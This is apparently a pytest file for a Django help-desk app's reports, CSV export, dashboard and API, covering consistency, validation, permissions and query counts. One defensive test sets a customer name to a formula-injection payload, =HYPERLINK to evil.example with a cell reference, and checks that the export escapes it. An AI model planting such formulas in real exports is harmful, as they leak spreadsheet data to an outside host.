"""The dashboard and report pages, their CSV, print view and API: the same numbers everywhere,
errors next to the field, and only for the people they are for."""

from __future__ import annotations

import pytest
from django.test import Client

from escalada.accounts.models import AgentProfile
from escalada.insights.models import TicketRollup
from tests.app.conftest import World, database_state, token_client
from tests.app.factories import AgentFactory, UserFactory
from tests.app.insights.conftest import catch_up

pytestmark = pytest.mark.django_db

RANGE = "from=2026-12-07&to=2026-12-13"


@pytest.fixture
def lead(world: World) -> AgentProfile:
    return AgentFactory.create(user=UserFactory.create(username="pat"), teams=[world.support], is_team_lead=True)


def web(user: object) -> Client:
    client = Client()
    client.force_login(user)  # type: ignore[arg-type]
    return client


def test_report_page_csv_print_and_api_show_the_same_numbers(week: object, lead: AgentProfile, world: World) -> None:
    page = web(lead.user).get(f"/reports/escalation-rate/?{RANGE}&group_by=team")
    assert page.status_code == 200
    html = page.content.decode()
    assert "<td>Support</td><td>2</td><td>1</td><td>1</td><td>50.0</td><td>50.0</td>" in html
    assert '<svg class="chart"' in html
    assert "Escalation rate: Escalations per 100 tickets" in html
    csv = web(lead.user).get(f"/reports/escalation-rate/?{RANGE}&group_by=team&format=csv")
    assert csv["Content-Type"] == "text/csv; charset=utf-8"
    assert csv.content.decode().splitlines() == [
        "Team,Tickets,Escalations,Escalated tickets,Escalations per 100 tickets,Tickets escalated %",
        "Support,2,1,1,50.0,50.0",
        "Finance,1,1,1,100.0,100.0",
    ]
    printable = web(lead.user).get(f"/reports/escalation-rate/?{RANGE}&print=1").content.decode()
    assert 'id="report-filters"' not in printable
    assert 'id="report-table"' in printable
    api = token_client(lead.user).get(f"/api/v1/reports/escalation-rate?{RANGE}&group_by=team").json()
    assert api["rows"][0] == {
        "label": "Support",
        "tickets": 2,
        "escalations": 1,
        "escalated": 1,
        "per_100": 50.0,
        "escalated_pct": 50.0,
    }
    assert api["totals"]["per_100"] == 66.7


@pytest.mark.parametrize(
    "name", ["escalation-rate", "escalation-times", "sla-compliance", "resolution-quality", "root-causes", "satisfaction"]
)
def test_every_report_renders_in_a_fixed_number_of_queries(
    week: object, lead: AgentProfile, name: str, django_assert_max_num_queries: object
) -> None:
    client = web(lead.user)
    with django_assert_max_num_queries(14):  # type: ignore[operator]
        response = client.get(f"/reports/{name}/?{RANGE}")
    assert response.status_code == 200


def test_root_cause_bar_lists_its_escalations(week: object, lead: AgentProfile) -> None:
    from escalada.escalations.models import RootCauseCategory

    defect = RootCauseCategory.objects.get(slug="product-defect")
    html = web(lead.user).get(f"/reports/root-causes/{defect.pk}/?{RANGE}").content.decode()
    assert "Rounding in invoice totals." in html
    assert "1 escalation(s)" in html
    api = token_client(lead.user).get(f"/api/v1/reports/root-causes/{defect.pk}/escalations?{RANGE}").json()
    assert [(row["reason"], row["root_cause"]) for row in api] == [("Lack of progress", "Rounding in invoice totals.")]


def test_a_bad_filter_says_which_field_and_changes_nothing(week: object, lead: AgentProfile) -> None:
    api_client, browser = token_client(lead.user), web(lead.user)
    before = database_state()
    page = browser.get("/reports/sla-compliance/?from=2026-12-13&to=2026-12-01&priority=blocker&team=999")
    assert page.status_code == 422
    html = page.content.decode()
    assert "The range starts after it ends; choose a start on or before the end." in html
    assert "Choose one of: urgent, high, normal, low." in html
    assert "No such team." in html
    api = api_client.get("/api/v1/reports/sla-compliance?from=12/07/2026&group_by=weekday")
    assert api.status_code == 422
    assert {e["field"]: e["message"] for e in api.json()["errors"]} == {"from": "Write a date as YYYY-MM-DD, e.g. 2026-11-01."}
    grouped = api_client.get(f"/api/v1/reports/sla-compliance?{RANGE}&group_by=weekday")
    assert {e["field"]: e["message"] for e in grouped.json()["errors"]} == {
        "group_by": "Choose one of: metric, policy, team, priority."
    }
    assert api_client.get(f"/api/v1/reports/nonsense?{RANGE}").status_code == 404
    assert database_state() == before


def test_reports_are_for_leads_managers_admins_the_dashboard_for_staff(week: object, world: World) -> None:
    assert web(world.sam.user).get("/reports/").status_code == 403
    assert token_client(world.sam.user).get("/api/v1/reports/escalation-rate").status_code == 403
    assert web(world.morgan.user).get("/reports/").status_code == 200
    assert web(world.sam.user).get("/dashboard/").status_code == 200
    assert web(world.ana_user).get("/dashboard/").status_code == 403
    assert token_client(world.ana_user).get("/api/v1/dashboard").status_code == 403


def test_dashboard_tiles(world: World, week: object) -> None:
    data = token_client(world.admin).get("/api/v1/dashboard").json()
    # The world's two tickets (new) plus T3, reopened; T1 and T2 are solved.
    assert data["open_tickets"] == {"by_status": {"new": 2, "open": 1, "pending": 0, "on_hold": 0}, "total": 3}
    assert data["escalations"]["by_level"] == {"2": 1}
    assert data["escalations"]["by_status"]["reopened"] == 1
    assert data["escalations"]["by_team"] == [{"team": "Finance", "count": 1}]
    assert data["escalations"]["unacknowledged"] == 0
    assert data["oldest_waiting"]["number"] == world.ticket_a.number
    assert data["health"]["dead_letters"] == 0
    html = web(world.admin).get("/dashboard/").content.decode()
    assert 'id="tile-open"' in html
    assert '<div class="big">3</div>' in html
    assert 'hx-trigger="every 10s' in html


def test_no_rollup_row_goes_negative_and_facts_track_every_ticket(week: object) -> None:
    catch_up()
    assert TicketRollup.objects.filter(tickets__lt=0).count() == 0
    assert sum(TicketRollup.objects.filter(grain="d").values_list("tickets", flat=True)) == 5
    assert sum(TicketRollup.objects.filter(grain="m").values_list("tickets", flat=True)) == 5


def test_csv_cells_never_start_like_a_formula(week: object, lead: AgentProfile, world: World) -> None:
    world.northwind.name = '=HYPERLINK("http://evil.example/?"&A2,"open")'
    world.northwind.save(update_fields=["name"])
    csv = web(lead.user).get(f"/reports/escalation-rate/?{RANGE}&group_by=customer&format=csv").content.decode()
    assert csv.splitlines()[1] == '"\'=HYPERLINK(""http://evil.example/?""&A2,""open"")",2,1,1,50.0,50.0'


def test_odd_numbers_and_far_dates_are_field_errors_not_500s(week: object, lead: AgentProfile) -> None:
    api = token_client(lead.user)
    odd = api.get("/api/v1/reports/escalation-rate?team=²&from=9999-06-01&to=9999-12-31")
    assert odd.status_code == 422
    assert {e["field"]: e["message"] for e in odd.json()["errors"]} == {
        "team": "No such team.",
        "from": "Choose a date between 2000-01-01 and 2999-12-31.",
        "to": "Choose a date between 2000-01-01 and 2999-12-31.",
    }
